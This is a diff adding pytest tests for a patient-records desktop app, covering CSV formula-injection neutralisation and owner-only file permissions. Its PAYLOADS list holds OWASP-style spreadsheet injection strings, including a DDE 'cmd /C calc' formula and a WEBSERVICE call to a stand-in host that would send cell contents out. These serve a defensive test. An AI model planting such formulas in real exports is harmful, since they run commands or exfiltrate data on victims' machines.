@@ -237,3 +237,54 @@ def test_a_database_on_a_network_share_is_refused(tmp_path, monkeypatch):
         connection.open_database(connection.sqlite_url(tmp_path / "nest.sqlite3"))
     assert "partage réseau" in str(refused.value) and "serveur partagé" in str(refused.value)
     assert not (tmp_path / "nest.sqlite3").exists()
+
+
+# --- data in files (issue 24 §4) ----------------------------------------------------------------
+
+PAYLOADS = ["=cmd|' /C calc'!A0", "@SUM(A:A)", '=WEBSERVICE("http://x.example/?"&A1)',
+            "+HYPERLINK(\"http://x.example\")", "-2+3+cmd|' /C calc'!A0", "\tleading tab",
+            "\rleading return"]
+
+
+def test_every_csv_export_neutralises_what_a_spreadsheet_would_run(db, tmp_path):
+    """Stored as typed, exported as text: the OWASP payloads reach Excel with a leading
+    apostrophe; a phone number or a negative number is left alone."""
+    import csv
+
+    from nest_desktop.services import segments
+
+    for index, payload in enumerate(PAYLOADS):
+        patient_service.create_patient(patient_service.PatientForm(
+            last_name="Diop", first_names="Awa " + "abcdefg"[index],
+            address=payload.replace("\t", " ").replace("\r", " ") if index > 4 else payload,
+            email="", phones=["77 123 45 6" + str(index)]))
+    assert Patient.get(Patient.first_names == "Awa a").address == PAYLOADS[0]  # as typed
+    path = tmp_path / "segment.csv"
+    from nest_desktop.services.exports import spreadsheet_safe, write_csv
+
+    write_csv(path, ["Adresse", "Nombre"], [[p, "-5"] for p in PAYLOADS] + [["+221771234567",
+                                                                            "12,5"]], ";")
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.reader(handle, delimiter=";"))
+    assert [row[0] for row in rows[1:-1]] == ["'" + p for p in PAYLOADS]
+    assert rows[-1] == ["+221771234567", "12,5"] and rows[1][1] == "-5"
+    assert spreadsheet_safe("Awa") == "Awa" and spreadsheet_safe(12) == 12
+    # the exports go through the same writer: a name typed as a formula
+    patient_service.create_patient(patient_service.PatientForm(
+        last_name="@SUM(A:A)", first_names="=cmd|' /C calc'!A"))
+    segments.export_csv(tmp_path / "patients.csv", segments.SegmentFilter(), ";")
+    with (tmp_path / "patients.csv").open(encoding="utf-8-sig", newline="") as handle:
+        exported = [row[:2] for row in csv.reader(handle, delimiter=";")]
+    assert ["'@SUM(A:A)", "'=cmd|' /C calc'!A"] in exported
+
+
+@pytest.mark.skipif(__import__("os").name != "posix", reason="POSIX file modes")
+def test_the_database_its_copies_and_exports_are_readable_by_the_user_alone(db, tmp_path):
+    from nest_desktop.services.exports import write_csv
+
+    settings.put("backup.folder", str(tmp_path / "copies"))
+    copy = backup.back_up_now(dt.datetime(2026, 12, 3, 19, 0))
+    export = tmp_path / "export.csv"
+    write_csv(export, ["Nom"], [["Diop"]], ";")
+    for path in (backup.database_file(), copy.path, export):
+        assert path.stat().st_mode & 0o777 == 0o600, path
